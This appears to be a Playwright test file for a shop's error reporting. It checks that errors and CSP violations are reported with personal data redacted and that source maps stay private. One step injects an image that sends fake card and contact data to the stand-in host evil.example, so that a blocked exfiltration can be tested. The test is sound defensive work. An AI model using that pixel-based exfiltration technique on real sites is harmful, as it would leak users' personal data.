import { readdirSync, readFileSync } from 'node:fs'
import type { Page } from '@playwright/test'
import { keepRouting } from '../drivers/screens/basket-codes.ts'
import { expect, test } from '../drivers/stack/shop.ts'
import { mainNavigation, navigate, visit } from '../drivers/screens/visit.ts'

type ReceivedEvent = {
  readonly message?: string
  readonly release: string
  readonly environment: string
  readonly tags: Readonly<Record<string, string>>
  readonly extra: Readonly<Record<string, string>>
  readonly debug_meta?: { readonly images: readonly { readonly code_file: string; readonly debug_id: string }[] }
  readonly exception?: { readonly values: readonly { readonly type: string; readonly value: string }[] }
}

/** The error service of the worker, which other tests of the worker reach too. */
const service = (url: string) => {
  const events = async (): Promise<readonly ReceivedEvent[]> => {
    const { items } = (await (await fetch(`${url}/control/received?type=event`)).json()) as {
      items: readonly { readonly payload: ReceivedEvent }[]
    }
    return items.map(({ payload }) => payload)
  }
  const textOf = ({ message, exception }: ReceivedEvent): string =>
    [message, ...(exception?.values.map(({ type, value }) => `${type}: ${value}`) ?? [])].join('\n')
  return {
    events,
    /** The first event whose text matches, as soon as it has arrived. */
    find: async (pattern: RegExp): Promise<ReceivedEvent> => {
      const matching = async () => (await events()).find((event) => pattern.test(textOf(event)))
      await expect.poll(async () => (await matching()) !== undefined, { message: String(pattern) }).toBe(true)
      return (await matching())!
    },
    forget: () => fetch(`${url}/control`, { method: 'DELETE' }),
  }
}

/** Personal data that the failures of these tests carry. */
const secrets = 'jo@example.com 0412 345 678, 4111 1111 1111 1111, Bearer abc.def.ghi'
const leaks = /jo@|jo%40|0412 ?345|4111 ?1111|abc\.def/

/** Fails in the page as a defect would, outside the test's own evaluation: by an error, or by a text. */
const fail = (page: Page, kind: 'throw' | 'reject', message: string, isText = false): Promise<void> => {
  const value = isText ? JSON.stringify(message) : `new Error(${JSON.stringify(message)})`
  return page.evaluate(
    `setTimeout(() => { ${kind === 'throw' ? `throw ${value}` : `void Promise.reject(${value})`} }), undefined`,
  )
}

test('[ERR-23] [ERR-24] [CFG-08] a broken component, a rejected promise, a failed picture and a CSP violation arrive without personal data, ignored errors do not; the shop is whole while the error service is down', async ({
  page,
  stack,
  problems,
}) => {
  problems.expect(/^console/, /^page error/, /^left the origin: https:\/\/evil\.example\//)
  const url = stack.simulators['error-reporting']
  const { find, events, forget } = service(url)
  await forget()
  await test.step('a broken component', async () => {
    await keepRouting(page)
    await visit(page, '/')
    await page.route(/\/api\/v1\/products\b/, (route) => route.fulfill({ json: [null] }))
    await mainNavigation(page).getByRole('link', { name: 'Menu' }).click()
    const broken = await find(/^\n?TypeError/)
    expect(broken).toMatchObject({ release: '2.0.0', environment: 'production', tags: { app: 'shop', kind: 'render' } })
    // The server adds the ids of the source maps, which it does not serve.
    expect(broken.debug_meta?.images.length).toBeGreaterThan(0)
    await page.unroute(/\/api\/v1\/products\b/)
  })
  await test.step('rejected and thrown errors, and ignored ones', async () => {
    await navigate(page, '/stores')
    await expect(page.getByRole('heading', { level: 1, name: 'Stores' })).toBeVisible()
    await fail(page, 'reject', 'Failed to fetch')
    await fail(page, 'throw', 'thrown as text', true)
    await fail(page, 'reject', `the basket of ${secrets} is unknown`)
    expect(await find(/the basket of/)).toMatchObject({
      tags: { app: 'shop', kind: 'rejection', route: '/stores/{-$store}' },
      exception: {
        values: [{ type: 'Error', value: 'the basket of [email] [phone], [card], Bearer [token] is unknown' }],
      },
    })
    await fail(page, 'throw', `thrown with ${secrets}`)
    expect((await find(/thrown with/)).tags).toMatchObject({ kind: 'error' })
    // Reports are sent in order, so the ignored ones would have arrived before.
    expect(JSON.stringify(await events())).not.toMatch(/Failed to fetch|thrown as text/)
  })
  await test.step('a CSP violation', async () => {
    await page.evaluate((text) => {
      const picture = new Image()
      picture.src = `https://evil.example/pixel.png?card=${encodeURIComponent(text)}`
      document.body.append(picture)
    }, secrets)
    expect(await find(/img-src blocked https:\/\/evil\.example/)).toMatchObject({
      tags: { app: 'api', kind: 'csp', directive: 'img-src', blocked: 'https://evil.example' },
    })
    expect((await find(/a picture did not load/)).message).toBe(
      'a picture did not load: https://evil.example/pixel.png?[removed]',
    )
  })
  expect(JSON.stringify(await events())).not.toMatch(leaks)
  await test.step('the error service is down', async () => {
    const headers = { 'content-type': 'application/json' }
    const body = JSON.stringify({ outcome: 'unavailable', times: 1_000 })
    await fetch(`${url}/control`, { method: 'POST', headers, body })
    const tunnelled = page.waitForResponse(/\/api\/v1\/error-reports$/)
    await fail(page, 'reject', 'odd while the service is down')
    expect((await tunnelled).status()).toBe(204)
    await navigate(page, '/about-us')
    await expect(page.getByRole('heading', { level: 1, name: 'About us' })).toBeVisible()
    await forget()
  })
})

test('[ERR-23] source maps are not served, and no served file names one', async ({ request }) => {
  const maps = readdirSync(new URL('../../apps/web/dist/maps', import.meta.url))
  expect(maps).toContain('debug-ids.json')
  for (const name of ['debug-ids.json', ...maps.filter((each) => each.endsWith('.map')).slice(0, 20)])
    for (const path of [`/assets/${name}`, `/maps/${name}`, `/source-maps/assets/${name}`])
      expect((await request.get(path)).status(), path).toBe(404)
  const client = new URL('../../apps/web/dist/client/', import.meta.url)
  const files = readdirSync(client, { recursive: true, encoding: 'utf8' })
  expect(files.filter((name) => name.endsWith('.map'))).toEqual([])
  const scripts = files.filter((name) => name.endsWith('.js'))
  expect(scripts.length).toBeGreaterThan(50)
  expect(
    scripts.filter((name) => /sourceMappingURL|debugId=/.test(readFileSync(new URL(name, client), 'utf8'))),
  ).toEqual([])
})
